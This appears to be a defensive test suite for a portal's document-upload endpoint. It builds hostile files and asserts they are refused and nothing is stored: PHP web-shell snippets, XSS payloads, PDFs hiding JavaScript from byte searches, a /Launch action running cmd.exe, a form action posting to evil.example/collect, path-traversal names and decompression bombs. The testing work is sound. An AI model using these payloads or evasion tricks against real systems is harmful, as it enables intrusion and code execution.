import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { API_PATHS, CSRF_HEADER } from '@egov/auth-widgets/contract';
import { Browser, startServer, type Reply, type TestServer } from './helpers.ts';
import {
  footprint,
  foreignFields,
  jpeg,
  multipart,
  passphrase,
  pdf,
  png,
  register,
  registrationOf,
  uniqueEmail,
  uploadedFiles,
  type FilePart,
} from './fixtures.ts';
import {
  bytesAfterJpegEnd,
  bytesAfterPngEnd,
  classicPdf,
  hasExif,
  incrementalUpdate,
  objectStreamPdf,
  pageObjects,
  pdfWith,
  pdfWithCompressedJavaScript,
  pdfWithInternalLinks,
  pdfWithLinkAction,
  pngBomb,
  realJpeg,
  realPdf,
  realPng,
  streamBody,
  withJpegSegment,
  withPngChunk,
} from './document-builders.ts';
import sharp from 'sharp';
import { deflateSync } from 'node:zlib';

const MAX = 3 * 1024 * 1024;
const ACCEPTED = ['application/pdf', 'image/png', 'image/jpeg'];

let server: TestServer;
let browser: Browser;

before(async () => {
  server = await startServer();
  browser = new Browser(server.api);
});
after(() => server.cleanup());

/** Registers with these files and checks that a refusal left no row, file or e-mail behind. */
async function attempt(files: FilePart[]): Promise<{ reply: Reply; email: string }> {
  const before = await footprint(server);
  const email = uniqueEmail('upload');
  const reply = await register(browser, foreignFields(email, passphrase()), files);
  if (reply.status >= 400) assert.deepEqual(await footprint(server), before, 'a refused upload stores nothing');
  return { reply, email };
}

describe('file types are judged by content, not by name or declared type', () => {
  const refused: [string, FilePart][] = [
    ['an HTML page named .jpg, declared image/jpeg', { filename: 'photo.jpg', contentType: 'image/jpeg', content: Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>') }],
    ['x.php.jpg with PHP in it', { filename: 'x.php.jpg', contentType: 'image/jpeg', content: Buffer.from('<?php system($_GET["c"]); ?>') }],
    ['an SVG', { filename: 'scan.svg', contentType: 'image/svg+xml', content: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>') }],
    ['an SVG named .png', { filename: 'scan.png', contentType: 'image/png', content: Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>') }],
    ['a PDF/HTML polyglot (markup in the first KB)', { filename: 'doc.pdf', contentType: 'application/pdf', content: pdf(2000, '<html><body><script>alert(1)</script></body></html>\n') }],
    ['a JPEG with PHP in its comment', { filename: 'x.php.jpg', contentType: 'image/jpeg', content: jpeg(2000, '<?php echo shell_exec($_GET["c"]); ?>') }],
    ['a PDF with a script far past its head', { filename: 'late.pdf', contentType: 'application/pdf', content: Buffer.concat([pdf(200_000), Buffer.from('<script>alert(1)</script>')]) }],
    ['a PDF with a JavaScript action', { filename: 'action.pdf', contentType: 'application/pdf', content: Buffer.concat([pdf(5_000), Buffer.from('<< /S /JavaScript /JS (app.alert(1)) >>')]) }],
    ['magic bytes not at the start', { filename: 'shifted.pdf', contentType: 'application/pdf', content: Buffer.concat([Buffer.from('\n'), pdf()]) }],
    ['a GIF', { filename: 'scan.gif', contentType: 'image/gif', content: Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1') }],
    ['an empty file with a name', { filename: 'empty.pdf', contentType: 'application/pdf', content: Buffer.alloc(0) }],
  ];
  for (const [name, file] of refused) {
    test(`${name} → invalid_file_type, naming the accepted types`, async () => {
      const { reply } = await attempt([file]);
      assert.equal(reply.status, 400, reply.text);
      assert.deepEqual(reply.json, { error: { code: 'validation_failed', fields: { documents: 'invalid_file_type' }, acceptedTypes: ACCEPTED } });
    });
  }

  test('a PNG named .pdf is stored as a PNG; a JPEG named x.php.jpg as a JPEG', async () => {
    const { reply, email } = await attempt([
      { filename: 'scan.pdf', contentType: 'application/pdf', content: png() },
      { filename: 'x.php.jpg', contentType: 'application/x-php', content: jpeg() },
    ]);
    assert.equal(reply.status, 202, reply.text);
    const { documents } = await registrationOf(server, email);
    assert.deepEqual(
      documents.map((d) => [d.name, d.type]),
      [
        ['scan.pdf', 'image/png'],
        ['x.php.jpg', 'image/jpeg'],
      ],
    );
  });

  test('one refused file refuses the whole registration, the good one is not kept either', async () => {
    const { reply } = await attempt([{ filename: 'ok.pdf', content: pdf() }, { filename: 'bad.jpg', content: Buffer.from('<html></html>') }]);
    assert.equal(reply.status, 400);
    assert.equal(reply.json.error.fields.documents, 'invalid_file_type');
  });
});

describe('size and count limits are enforced while streaming', () => {
  test('a file of exactly the limit is accepted', async () => {
    const { reply } = await attempt([{ filename: 'max.pdf', content: pdf(MAX) }]);
    assert.equal(reply.status, 202, reply.text);
  });

  test('the limit + 1 byte → 413 payload_too_large, file_too_large', async () => {
    const { reply } = await attempt([{ filename: 'big.pdf', content: pdf(MAX + 1) }]);
    assert.equal(reply.status, 413);
    assert.deepEqual(reply.json, { error: { code: 'payload_too_large', fields: { documents: 'file_too_large' } } });
    assert.equal(reply.headers.connection, 'close');
  });

  test('three files, as the portal guide asks (both pages of the document and the foreigner’s-number page), are accepted', async () => {
    const { reply } = await attempt([
      { filename: 'page-1.pdf', content: pdf() },
      { filename: 'page-2.pdf', content: pdf() },
      { filename: 'number-page.pdf', content: pdf() },
    ]);
    assert.equal(reply.status, 202, reply.text);
  });

  test('four files → 413 too_many_files', async () => {
    const { reply } = await attempt([{ filename: 'a.pdf', content: pdf() }, { filename: 'b.pdf', content: pdf() }, { filename: 'c.pdf', content: pdf() }, { filename: 'd.pdf', content: pdf() }]);
    assert.equal(reply.status, 413);
    assert.deepEqual(reply.json, { error: { code: 'payload_too_large', fields: { documents: 'too_many_files' } } });
  });

  test('no file → too_few_files; the empty part a browser sends for "no file chosen" is no file', async () => {
    const { reply } = await attempt([{ content: Buffer.alloc(0) }]);
    assert.equal(reply.status, 400);
    assert.deepEqual(reply.json.error.fields, { documents: 'too_few_files' });
  });

  test('a request declaring more than the limits allow is refused before it is read', async () => {
    await browser.session();
    const before = await footprint(server);
    const status = await new Promise<number>((resolve, reject) => {
      const req = httpRequest(`${server.api}${API_PATHS.registration}`, {
        method: 'POST',
        agent: false,
        headers: {
          'Content-Type': 'multipart/form-data; boundary=x',
          'Content-Length': 50 * 1024 * 1024,
          Cookie: `egov_sid=${browser.cookie}`,
          [CSRF_HEADER]: browser.csrfToken!,
        },
      });
      req.on('response', (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
        req.destroy();
      });
      req.on('error', reject);
      req.write('--x\r\n');
    });
    assert.equal(status, 413);
    assert.deepEqual(await footprint(server), before);
  });

  test('a stream of unending file data is cut off at the limit, chunked', async () => {
    await browser.session();
    const before = await footprint(server);
    const boundary = 'chunked-boundary';
    const status = await new Promise<number>((resolve, reject) => {
      const req = httpRequest(`${server.api}${API_PATHS.registration}`, {
        method: 'POST',
        agent: false,
        headers: {
          'Content-Type': `multipart/form-data; boundary=${boundary}`,
          'Transfer-Encoding': 'chunked',
          Cookie: `egov_sid=${browser.cookie}`,
          [CSRF_HEADER]: browser.csrfToken!,
        },
      });
      let sent = 0;
      let answered = false;
      req.on('response', (res) => {
        answered = true;
        res.resume();
        resolve(res.statusCode ?? 0);
      });
      req.on('error', (error) => (answered ? undefined : reject(error)));
      req.write(`--${boundary}\r\nContent-Disposition: form-data; name="documents"; filename="endless.pdf"\r\n\r\n%PDF-1.4\n`);
      const chunk = Buffer.alloc(64 * 1024, 0x41);
      const pump = () => {
        // Bounded: 16 MB at most, far past the 3 MB limit.
        while (!answered && sent < 16 * 1024 * 1024) {
          sent += chunk.length;
          if (!req.write(chunk)) return void req.once('drain', pump);
        }
        req.end();
      };
      pump();
    });
    assert.equal(status, 413);
    assert.deepEqual(await footprint(server), before);
  });
});

describe('client file names are display text only', () => {
  test('"../../a.pdf" and friends are stored under generated names inside uploads/', async () => {
    const names = ['../../a.pdf', '..\\..\\windows\\b.pdf', '/etc/passwd', 'c.pdf\u202egpj.exe', '....pdf', 'x'.repeat(300) + '.pdf'];
    const email = uniqueEmail('names');
    const files = names.slice(0, 2).map((filename) => ({ filename, content: pdf() }));
    const reply = await register(browser, foreignFields(email, passphrase()), files);
    assert.equal(reply.status, 202, reply.text);
    const { documents } = await registrationOf(server, email);
    assert.deepEqual(
      documents.map((d) => d.name),
      ['a.pdf', 'b.pdf'],
    );
    for (const filename of names.slice(2)) {
      const other = uniqueEmail('names');
      assert.equal((await register(browser, foreignFields(other, passphrase()), [{ filename, content: pdf() }])).status, 202);
      const [document] = (await registrationOf(server, other)).documents;
      assert.ok(!document!.name.includes('/') && !document!.name.includes('\u202e') && !document!.name.startsWith('.'), document!.name);
      assert.ok([...document!.name].length <= 100);
    }
    assert.ok(uploadedFiles(server).every((name) => /^[0-9a-f]{32}$/.test(name)), 'only generated names on disk');
  });

  test('a request with a file in a text field, or an unknown part, stores nothing', async () => {
    const email = uniqueEmail('parts');
    const before = await footprint(server);
    const reply = await browser.postMultipart(
      API_PATHS.registration,
      multipart(foreignFields(email, passphrase()), [
        { content: pdf(), filename: 'a.pdf' },
        { field: 'givenName', filename: 'name.pdf', content: pdf() },
        { field: 'avatar', filename: 'me.png', content: png() },
      ]),
    );
    assert.equal(reply.status, 400);
    assert.deepEqual(reply.json.error.fields, { givenName: 'invalid_type', avatar: 'unknown_field' });
    assert.deepEqual(await footprint(server), before);
  });
});

/** The files a registration added to uploads/, read back (tests in this file run one at a time). */
async function storedBytes(files: FilePart[]): Promise<{ reply: Reply; email: string; stored: Buffer[] }> {
  const before = new Set(uploadedFiles(server));
  const { reply, email } = await attempt(files);
  const added = uploadedFiles(server).filter((name) => !before.has(name));
  return { reply, email, stored: added.map((name) => readFileSync(join(server.dataDir, 'uploads', name))) };
}

const REFUSED_BODY = { error: { code: 'validation_failed', fields: { documents: 'invalid_file_type' }, acceptedTypes: ACCEPTED } };
const asPdf = (content: Buffer, filename = 'scan.pdf'): FilePart => ({ filename, contentType: 'application/pdf', content });
const asJpeg = (content: Buffer, filename = 'photo.jpg'): FilePart => ({ filename, contentType: 'image/jpeg', content });
const asPng = (content: Buffer, filename = 'scan.png'): FilePart => ({ filename, contentType: 'image/png', content });
const text = (value: string) => Buffer.from(value, 'latin1');

describe('active content and hostile documents are refused, whole-file and structurally (security review, issue 11)', () => {
  /** Each case: a hostile file built here, and it must get exactly REFUSED_BODY with nothing stored. */
  const hostile: [string, () => Buffer | Promise<Buffer>][] = [
    // --- PDF: names with #xx escapes, actions, active features
    ['PDF: /OpenAction << /S /J#61vaScript >> (a name escape: #61 is "a")', () => pdfWith({ catalogExtra: '/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>' })],
    ['PDF: /#4a#53 with lower-case hex escapes (= /JS)', () => pdfWith({ catalogExtra: '/OpenAction << /S /#4a#61va#53cript /#4a#53 (app.alert(1)) >>' })],
    ['PDF: a link with a /Launch action', () => pdfWithLinkAction('<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>')],
    ['PDF: a link with a /SubmitForm action', () => pdfWithLinkAction('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>')],
    ['PDF: a link with a /URI action', () => pdfWithLinkAction('<< /S /URI /URI (https://evil.example/phish) >>')],
    ['PDF: a link with a /GoToR action (another file)', () => pdfWithLinkAction('<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>')],
    ['PDF: a link with a /GoToE action (an embedded file)', () => pdfWithLinkAction('<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>')],
    ['PDF: a link with an /ImportData action', () => pdfWithLinkAction('<< /S /ImportData /F (data.fdf) >>')],
    ['PDF: a /Sound action', () => pdfWithLinkAction('<< /S /Sound /Sound 5 0 R >>')],
    ['PDF: a /Movie action', () => pdfWithLinkAction('<< /S /Movie /T (clip) >>')],
    ['PDF: a /Rendition action', () => pdfWithLinkAction('<< /S /Rendition /OP 0 >>')],
    ['PDF: /OpenAction with a non-destination action (/Named /Print)', () => pdfWith({ catalogExtra: '/OpenAction << /S /Named /N /Print >>' })],
    ['PDF: /AA (additional actions) on a page', () => pdfWith({ pageExtra: '/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>' })],
    ['PDF: document-level /JavaScript in the /Names tree', () => pdfWith({ catalogExtra: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', more: [{ num: 4, body: '<< /S /JavaScript /JS (app.alert(1)) >>' }] })],
    ['PDF: /EmbeddedFiles in the /Names tree', () =>
      pdfWith({
        catalogExtra: '/Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >>',
        more: [
          { num: 4, body: '<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>' },
          { num: 5, body: streamBody('/Type /EmbeddedFile', 'MZ this is not a program') },
        ],
      })],
    ['PDF: a file attachment annotation with an embedded file stream', () =>
      pdfWith({
        pageExtra: '/Annots [4 0 R]',
        more: [
          { num: 4, body: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (a.js) /EF << /F 5 0 R >> >> >>' },
          { num: 5, body: streamBody('', 'app.alert(1)') },
        ],
      })],
    ['PDF: an XFA form', () => pdfWith({ catalogExtra: '/AcroForm << /Fields [] /XFA 4 0 R >>', more: [{ num: 4, body: streamBody('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>') }] })],
    ['PDF: a /RichMedia annotation', () => pdfWith({ pageExtra: '/Annots [4 0 R]', more: [{ num: 4, body: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << /Assets << /Names [] >> >> >>' }] })],
    ['PDF: a /Movie annotation', () => pdfWith({ pageExtra: '/Annots [4 0 R]', more: [{ num: 4, body: '<< /Type /Annot /Subtype /Movie /Rect [0 0 10 10] /Movie << /F (clip.mov) >> >>' }] })],
    ['PDF: /JavaScript in a FlateDecode object stream, written by pdf-lib (invisible to any byte search)', () => pdfWithCompressedJavaScript()],
    ['PDF: /JavaScript in a hand-written object stream with a cross-reference stream', () =>
      objectStreamPdf(pageObjects().slice(1), [
        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>' },
        { num: 4, body: '<< /S /JavaScript /JS (app.alert(1)) >>' },
      ])],
    ['PDF: an object stream that does not say it is one (/Type /XObject), found through the cross-reference stream', () =>
      objectStreamPdf(pageObjects().slice(1), [
        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>' },
        { num: 4, body: '<< /S /JavaScript /JS (app.alert(1)) >>' },
      ], { objStmType: '/Type /XObject /Subtype /Form /BBox [0 0 1 1]' })],
    ['PDF: JavaScript added by an incremental update (the first revision is clean)', () =>
      incrementalUpdate(pdfWith(), [{ num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>' }, { num: 4, body: '<< /S /JavaScript /JS (app.alert(1)) >>' }])],
    ['PDF: an object hidden inside another stream\'s data, where the cross-reference table points', () => {
      // Object 5 is a stream whose data contains "4 0 obj << /S /JavaScript … >>"; a parser that
      // reads stream data as data skips it, a viewer that follows the xref offset finds it.
      const hidden = '4 0 obj\n<< /S /J#61vaScript /JS (app.alert(1)) >>\nendobj\n';
      const plain = classicPdf([
        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>' },
        ...pageObjects().slice(1),
        { num: 5, body: streamBody('', `% padding\n${hidden}`, { raw: true }) },
      ]);
      // Point the xref entry of object 4 (free in the table) at the hidden header.
      const source = plain.toString('latin1');
      const at = source.indexOf('4 0 obj\n<< /S');
      const fixed = source.replace(/xref\n0 6\n((?:.{20}){4})0000000000 65535 f \n/s, (_m, rows: string) => `xref\n0 6\n${rows}${String(at).padStart(10, '0')} 00000 n \n`);
      assert.notEqual(fixed, source, 'the xref entry was rewritten');
      return Buffer.from(fixed, 'latin1');
    }],
    ['PDF: a flate bomb in an object stream (100 MB of decoded data in ~100 KB)', () => {
      const data = deflateSync(Buffer.concat([text('4 0 '), Buffer.alloc(100 * 1024 * 1024, 0x20), text('<< /S /JavaScript /JS (x) >>')]));
      const body = Buffer.concat([text(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`), data, text('\nendstream')]);
      return classicPdf([...pageObjects(), { num: 5, body }]);
    }],
    ['PDF: encrypted (cannot be inspected)', () =>
      pdfWith({
        trailer: '/Root 1 0 R /Encrypt 4 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]',
        more: [{ num: 4, body: `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >>` }],
      })],
    ['PDF: not parseable (a header and random bytes)', () => Buffer.concat([text('%PDF-1.7\n'), Buffer.from(Array.from({ length: 4000 }, (_, i) => (i * 7919 + 13) % 251))])],
    ['PDF: no document in it (a header and a trailer, no objects)', () => text(`%PDF-1.4\n%${'P'.repeat(300)}\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`)],
    // --- images
    ['JPEG: <svg onload=…> in a comment segment after the first KiB', async () => withJpegSegment(withJpegSegment(await realJpeg(), 0xfe, Buffer.from('<svg onload=alert(1)>', 'latin1')), 0xfe, Buffer.alloc(2000, 0x20))],
    ['JPEG: <svg onload=…> after the image end, past the first KiB', async () => Buffer.concat([await realJpeg(), Buffer.alloc(1500, 0x20), text('<svg onload=alert(document.domain)>')])],
    ['JPEG: not decodable (a JFIF header and filler)', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), text('JFIF\0\x01\x01\0\0\x01\0\x01\0\0'), Buffer.alloc(2000, 0x5a), Buffer.from([0xff, 0xd9])])],
    ['JPEG: truncated in the middle of its image data', async () => {
      const whole = await realJpeg({ width: 320, height: 240 });
      return whole.subarray(0, Math.floor(whole.length * 0.6));
    }],
    ['JPEG: wider than the side limit (13 000 × 8 pixels)', () => sharp({ create: { width: 13_000, height: 8, channels: 3, background: '#fff' } }).jpeg().toBuffer()],
    ['PNG: a 65535 × 65535 decompression bomb (200 MB of IDAT in ~204 KB)', () => pngBomb()],
    ['PNG: HTML in a compressed text chunk (zTXt, invisible to a byte search)', async () =>
      withPngChunk(await realPng(), 'zTXt', Buffer.concat([text('Comment\0\0'), deflateSync(text('<html><body><script>alert(1)</script></body></html>'))]))],
    ['PNG: HTML after IEND, past the first KiB', async () => Buffer.concat([withPngChunk(await realPng(), 'tEXt', Buffer.concat([text('Comment\0'), Buffer.alloc(1200, 0x41)])), text('<html><script>alert(1)</script></html>')])],
  ];
  for (const [name, make] of hostile) {
    test(`${name} → invalid_file_type, nothing stored`, async () => {
      const content = await make();
      const kind = content.subarray(0, 4).toString('latin1') === '%PDF' ? asPdf(content) : content[0] === 0xff ? asJpeg(content) : asPng(content);
      const { reply } = await attempt([kind]);
      assert.equal(reply.status, 400, reply.text);
      assert.deepEqual(reply.json, REFUSED_BODY);
    });
  }

  test('the hostile PDFs hide their script from a byte search: "JavaScript" is nowhere in the compressed ones', async () => {
    assert.ok(!(await pdfWithCompressedJavaScript()).includes('JavaScript'));
    assert.ok(!pdfWith({ catalogExtra: '/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>' }).includes('JavaScript'));
  });

  // --- what must still be stored
  test('a real-looking PDF (pdf-lib: a page of text, a font, document information) is stored as uploaded', async () => {
    const content = await realPdf({ pages: 2 });
    const { reply, stored } = await storedBytes([asPdf(content, 'passport.pdf')]);
    assert.equal(reply.status, 202, reply.text);
    assert.deepEqual(stored, [content]);
  });

  test('a PDF with object streams and a cross-reference stream, and no active content, is stored', async () => {
    const fromLibrary = await realPdf({ objectStreams: true });
    assert.ok(fromLibrary.includes('/ObjStm') && fromLibrary.includes('/XRef'));
    const byHand = objectStreamPdf(pageObjects().slice(1), [{ num: 1, body: '<< /Type /Catalog /Pages 2 0 R /PageLayout /SinglePage >>' }]);
    const { reply, stored } = await storedBytes([asPdf(fromLibrary), asPdf(byHand)]);
    assert.equal(reply.status, 202, reply.text);
    assert.deepEqual(stored.map((b) => b.length).sort(), [fromLibrary.length, byHand.length].sort());
  });

  test('a PDF with internal links (a /GoTo action, a /Dest link, an /OpenAction destination) is stored', async () => {
    const { reply } = await attempt([asPdf(await pdfWithInternalLinks())]);
    assert.equal(reply.status, 202, reply.text);
  });

  test('a JPEG with EXIF is stored re-encoded: a JPEG of the same size, without EXIF', async () => {
    const content = await realJpeg({ width: 320, height: 240, exif: true });
    assert.ok(hasExif(content) && content.includes(Buffer.from('EXIF-SECRET-LOCATION')));
    const { reply, stored } = await storedBytes([asJpeg(content)]);
    assert.equal(reply.status, 202, reply.text);
    assert.equal(stored.length, 1);
    const [jpegBytes] = stored as [Buffer];
    assert.ok(!hasExif(jpegBytes), 'no EXIF in the stored file');
    assert.ok(!jpegBytes.includes(Buffer.from('EXIF-SECRET-LOCATION')) && !jpegBytes.includes(Buffer.from('TestPhone')));
    const metadata = await sharp(jpegBytes).metadata();
    assert.deepEqual([metadata.format, metadata.width, metadata.height, metadata.exif, metadata.xmp, metadata.icc], ['jpeg', 320, 240, undefined, undefined, undefined]);
  });

  test('a JPEG turned by its EXIF orientation is stored turned, without the tag', async () => {
    const content = await realJpeg({ width: 120, height: 80, orientation: 6 });
    const { reply, stored } = await storedBytes([asJpeg(content)]);
    assert.equal(reply.status, 202, reply.text);
    const metadata = await sharp(stored[0]).metadata();
    assert.deepEqual([metadata.width, metadata.height, metadata.orientation, hasExif(stored[0]!)], [80, 120, undefined, false]);
  });

  test('a JPEG and a PNG with trailing bytes after their end are stored without them', async () => {
    const jpeg = Buffer.concat([await realJpeg(), Buffer.from('PK\x03\x04 trailing zip-like bytes', 'latin1')]);
    const png = Buffer.concat([await realPng(), Buffer.from('trailing bytes after the end', 'latin1')]);
    assert.ok(bytesAfterJpegEnd(jpeg) > 0 && bytesAfterPngEnd(png) > 0);
    const { reply, stored } = await storedBytes([asJpeg(jpeg), asPng(png)]);
    assert.equal(reply.status, 202, reply.text);
    const storedJpeg = stored.find((b) => b[0] === 0xff)!;
    const storedPng = stored.find((b) => b[0] === 0x89)!;
    assert.equal(bytesAfterJpegEnd(storedJpeg), 0);
    assert.equal(bytesAfterPngEnd(storedPng), 0);
    assert.ok(!storedJpeg.includes(Buffer.from('PK\x03\x04', 'latin1')));
  });

  test('a PNG is stored re-encoded, with its size and pixels; text chunks are dropped', async () => {
    const content = withPngChunk(await realPng(), 'tEXt', Buffer.from('Author\0Mileva Probna', 'latin1'));
    const { reply, email, stored } = await storedBytes([asPng(content)]);
    assert.equal(reply.status, 202, reply.text);
    const storedPng = stored[0]!;
    assert.ok(!storedPng.includes(Buffer.from('tEXt', 'latin1')) && !storedPng.includes(Buffer.from('Mileva')));
    const [before, after] = await Promise.all([sharp(content).raw().toBuffer(), sharp(storedPng).raw().toBuffer()]);
    assert.ok(before.equals(after), 'the same pixels');
    const { documents } = await registrationOf(server, email);
    assert.equal(documents[0]!.size, storedPng.length, 'the size recorded is the stored file\'s');
  });
});
